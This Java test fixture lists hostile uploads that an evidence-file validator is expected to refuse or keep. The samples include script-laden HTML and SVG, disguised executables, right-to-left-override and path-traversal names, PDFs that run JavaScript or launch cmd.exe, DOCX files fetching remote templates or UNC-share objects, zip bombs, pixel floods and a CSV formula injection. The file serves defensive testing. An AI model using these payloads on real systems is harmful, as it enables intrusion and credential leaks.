package org.aiwei.hostile;

import static org.aiwei.hostile.Bytes.docx;
import static org.aiwei.hostile.Bytes.join;
import static org.aiwei.hostile.Bytes.picture;
import static org.aiwei.hostile.Bytes.repeated;
import static org.aiwei.hostile.Bytes.text;
import static org.aiwei.hostile.Bytes.zip;
import static org.aiwei.hostile.HostileFile.kept;
import static org.aiwei.hostile.HostileFile.refused;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

/** What is sent where evidence is asked for: papers, photos, and what only says so. */
final class HostilePapers {

    private static final String HTML = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";
    private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    private static final int MEGABYTE = 1024 * 1024;

    private HostilePapers() {}

    static List<HostileFile> all(String trap) {
        return List.of(
                refused("a page", "page.html", () -> text(HTML)),
                refused("a page as photo", "照片.jpg", () -> text(HTML)),
                refused("a page as text", "说明.txt", () -> text(HTML)),
                refused("SVG with a script", "图.svg", () -> text(SVG)),
                refused("SVG as photo", "图.png", () -> text(SVG)),
                refused("a program", "setup.exe", HostilePapers::program),
                refused("a program as PDF", "报告.pdf", HostilePapers::program),
                refused("a program as document", "报告.docx", HostilePapers::program),
                refused("two extensions", "照片.jpg.exe", () -> picture("jpg")),
                refused("no extension", "报告", HostilePapers::pdf),
                refused("name turned around, program", "报告\u202Efdp.exe", HostilePapers::pdf),
                kept("name turned around, paper", "报告\u202Efdp.pdf", HostilePapers::pdf),
                kept("name of 900 bytes", "汉".repeat(300) + ".pdf", HostilePapers::pdf),
                refused("name with NUL", "报\u0000告.pdf", HostilePapers::pdf),
                kept("name that climbs", "../../../etc/passwd.pdf", HostilePapers::pdf),
                kept("name with markup", "<b onload=alert(1)>.pdf", HostilePapers::pdf),
                refused("nothing", "空.pdf", () -> new byte[0]),
                refused("a little too large", "大.pdf", () -> join(pdf(), new byte[20 * MEGABYTE])),
                refused("far too large", "更大.pdf", () -> join(pdf(), new byte[110 * MEGABYTE])),
                kept("PDF that runs a script", "脚本.pdf", () -> pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
                kept("PDF that starts a program", "启动.pdf", () -> pdf("/OpenAction<</S/Launch/F(cmd.exe)>>")),
                kept("PDF and archive in one", "双面.pdf", () -> join(pdf(), zip("a.txt", "x"))),
                refused("macros in a document", "宏.docx", () -> docx("word/vbaProject.bin", "x")),
                refused("document with macros by name", "宏.docm", () -> docx("word/vbaProject.bin", "x")),
                refused(
                        "a template from elsewhere",
                        "模板.docx",
                        () -> docx(
                                "word/_rels/settings.xml.rels",
                                "<Relationships><Relationship Id='a' Type='x/attachedTemplate' Target='" + trap
                                        + "/t.dotm' TargetMode='External'/></Relationships>")),
                refused(
                        "an object from a share",
                        "共享.docx",
                        () -> docx(
                                "word/_rels/document.xml.rels",
                                "<Relationships><Relationship Id='a' Type='x/oleObject' Target='\\\\10.9.9.9\\x\\a.doc'"
                                        + " TargetMode='External'/></Relationships>")),
                refused("archive as document", "报告.docx", () -> zip("a.txt", "x")),
                refused("300 MB folded small", "炸弹.docx", () -> docx("word/a.bin", new byte[300 * MEGABYTE])),
                refused("10,000 entries", "万件.docx", HostilePapers::crowd),
                kept("archives in archives", "套娃.docx", () -> docx("a.zip", zip("b.zip", zip("c.zip", docx())))),
                kept("entry that climbs", "穿越.docx", () -> docx("../../evil.txt", "x")),
                kept("entry that is a link", "链接.docx", () -> Bytes.linked(docx())),
                refused("entries with a password", "加锁.docx", () -> Bytes.locked(docx())),
                refused("document with a password", "加密.docx", () -> Bytes.ole("EncryptedPackage")),
                refused("half a document", "一半.docx", () -> Arrays.copyOf(docx(), 200)),
                refused("an installer as document", "安装.doc", () -> Bytes.ole("Installer")),
                refused("rich text as document", "富文本.doc", () -> text("{\\rtf1 {\\object\\objdata 01}}")),
                refused("60,000 × 60,000 points", "洪水.png", () -> Bytes.png(60_000, 60_000, 1)),
                refused("65,000 × 65,000 points", "洪水.jpg", () -> Bytes.jpegOf(65_000)),
                kept("200 MB in a small picture", "小图大肚.png", () -> Bytes.png(320, 240, 200)),
                refused("moving picture", "动图.gif", () -> picture("gif")),
                refused("moving picture as photo", "动图.jpg", () -> picture("gif")),
                refused("a broken photo", "坏.jpg", () -> Arrays.copyOf(picture("jpg"), 4)),
                kept("script in the camera's notes", "注释.jpg", () -> Bytes.jpegWith(0xE1, text("Exif\0\0" + HTML))),
                kept(
                        "colour profile of lies",
                        "色彩.jpg",
                        () -> Bytes.jpegWith(0xE2, join(text("ICC_PROFILE\0"), new byte[] {1, 1}, new byte[60_000]))),
                kept("photo and page in one", "双面.jpg", () -> join(picture("jpg"), text(HTML))),
                kept("photo and archive in one", "双面.png", () -> join(picture("png"), zip("a", "b"))),
                refused("photo of a telephone, renamed", "苹果.jpg", () -> text("\0\0\0\u0018ftypheic\0\0\0\0mif1heic")),
                kept("text with NUL", "说明.csv", () -> text("单位,数\u0000量\n县医院,=cmd|' /C calc'!A0\n")));
    }

    private static byte[] program() {
        return ("MZ\u0000\u0003" + "\u0000".repeat(200) + "PE").getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] pdf() {
        return pdf("");
    }

    private static byte[] pdf(String more) {
        return text("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + more + ">>endobj\n"
                + "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");
    }

    private static byte[] crowd() {
        var entries = new Object[20_000];
        for (int i = 0; i < entries.length; i += 2) {
            entries[i] = "word/" + i + ".xml";
            entries[i + 1] = repeated("", "x", 1, "");
        }
        return docx(entries);
    }
}
